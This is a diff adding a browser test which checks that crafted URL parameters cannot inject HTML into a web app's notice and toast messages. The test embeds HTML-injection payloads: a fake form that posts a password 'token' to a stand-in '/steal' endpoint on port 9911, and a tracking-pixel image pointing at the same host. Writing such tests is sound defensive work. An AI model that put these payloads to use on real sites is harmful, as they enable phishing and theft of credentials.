@@ -212,3 +212,23 @@ def test_examples_dropdown_and_formula_notes(browser, server):
                            arg=[prompt.element_handle(), before], timeout=20_000)
     assert "fisherman" in prompt.input_value().lower()
     ctx.close()
+
+
+def test_link_parameters_cannot_inject_html(browser, server):
+    """A crafted link shows its text literally: no form, input or pixel from the URL in the notice or toasts."""
+    from urllib.parse import quote
+
+    form = "<form action=http://127.0.0.1:9911/steal method=post><input name=token type=password><button>Go</button></form>"
+    pixel = "<img src=http://127.0.0.1:9911/pixel>"
+    ctx = browser.new_context(viewport={"width": 1300, "height": 1000}, locale="en-US")
+    page = ctx.new_page()
+    requested: list[str] = []
+    page.on("request", lambda r: requested.append(r.url))
+    page.goto(server.url + f"?task={quote(form)}&size={quote(pixel)}&solver={quote(pixel)}&gen={quote(pixel)}")
+    notice = page.locator("#notice")
+    notice.wait_for(state="visible", timeout=60_000)
+    page.wait_for_timeout(1500)  # let the toast render too
+    assert "<form action=http://127.0.0.1:9911/steal" in notice.inner_text()  # shown as text
+    assert page.locator("form[action*='9911'], input[name=token], img[src*='9911']").count() == 0
+    assert not [u for u in requested if ":9911" in u], requested
+    ctx.close()
